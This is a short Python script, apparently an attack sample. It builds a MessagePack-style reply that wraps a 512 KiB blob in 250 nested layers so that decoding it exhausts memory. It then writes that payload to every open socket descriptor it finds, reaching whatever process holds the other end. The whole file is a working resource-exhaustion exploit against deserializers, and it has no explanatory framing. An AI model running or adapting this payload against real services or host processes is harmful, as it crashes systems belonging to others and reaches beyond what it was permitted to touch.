"""Exhaust: a reply whose values are wrapped in one another, so that reading it holds a copy for each level."""

import os
import stat
import struct

packed = b"\xc4\x05hello" + b""
packed = b"\xc6" + struct.pack(">I", 2**19) + bytes(2**19)
for _ in range(250):
    inner = b"\x91" + packed
    packed = b"\xc9" + struct.pack(">Ib", len(inner), 2) + inner
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("<I", len(packed)) + packed)
    except OSError:
        pass
